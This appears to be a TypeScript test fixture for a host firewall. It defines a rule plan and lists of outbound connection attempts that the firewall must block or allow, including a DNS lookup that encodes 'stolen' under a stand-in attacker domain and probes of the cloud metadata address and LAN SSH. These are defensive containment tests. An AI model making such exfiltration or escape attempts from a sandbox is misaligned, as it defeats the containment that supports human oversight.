import { writeFileSync } from 'node:fs';
import { join } from 'node:path';
import type { FirewallPlan, RunFirewall } from '../../../src/host/firewall/index.ts';
import { output, type Attempt } from './attempts.ts';
import { NET } from './namespaces.ts';
import { UID, type World } from './world.ts';

/** The rules of an instance whose zones, connectors and egress process have the uids of `UID`. */
export const PLAN: FirewallPlan = {
  zoneUids: [{ from: UID.zone, to: UID.connector }],
  egressUid: UID.egress,
  resolvers: [NET.resolver],
  relay: null,
};

/** Runs the firewall's commands on our side of the cable. */
export function firewallOf(world: World): RunFirewall {
  return async (program, args, input) => {
    const file = join(world.directory, 'rules.nft');
    writeFileSync(file, input ?? '');
    const given = args.map((each) => (each === '-' ? file : each));
    try {
      return { status: 0, stdout: await output(world, undefined, [program, ...given]), stderr: '' };
    } catch (error) {
      return { status: 1, stdout: '', stderr: error instanceof Error ? error.message : '' };
    }
  };
}

export const tcp = (to: string, port: number): Attempt => ({ kind: 'tcp', to, port });
export const udp = (to: string, port: number): Attempt => ({ kind: 'udp', to, port });
export const dns = (to: string, name: string): Attempt => ({ kind: 'dns', to, name });
export const ping = (to: string): Attempt => ({ kind: 'ping', to });

/** Ways out that no zone and no connector has. */
export const WAYS: readonly Attempt[] = [
  tcp(NET.listed4, 443),
  tcp(NET.listed6, 443),
  tcp(NET.lan, 80),
  tcp(NET.lan, 22),
  tcp(NET.metadata, 80),
  tcp(NET.unique6, 443),
  udp(NET.listed4, 443),
  udp(NET.listed6, 443),
  udp(NET.lan, 443),
  dns(NET.resolver, 'c3RvbGVu.evil.example'),
  dns(NET.otherResolver, 'c3RvbGVu.evil.example'),
];

/** Ways that the egress process itself has not, even if it were taken over. */
export const SHUT_TO_EGRESS: readonly Attempt[] = [
  tcp(NET.listed4, 80),
  tcp(NET.lan, 443),
  tcp(NET.lan, 22),
  tcp(NET.metadata, 80),
  tcp(NET.metadata, 443),
  tcp(NET.unique6, 443),
  tcp(NET.tunnel6, 443),
  udp(NET.listed4, 443),
  udp(NET.listed6, 443),
  udp(NET.resolver, 443),
  dns(NET.otherResolver, 'c3RvbGVu.evil.example'),
  tcp('127.0.0.1', 443),
];

/** Ways that the egress process has. */
export const OPEN_TO_EGRESS: readonly Attempt[] = [
  tcp(NET.listed4, 443),
  tcp(NET.listed4, 465),
  tcp(NET.listed4, 993),
  tcp(NET.listed6, 443),
];
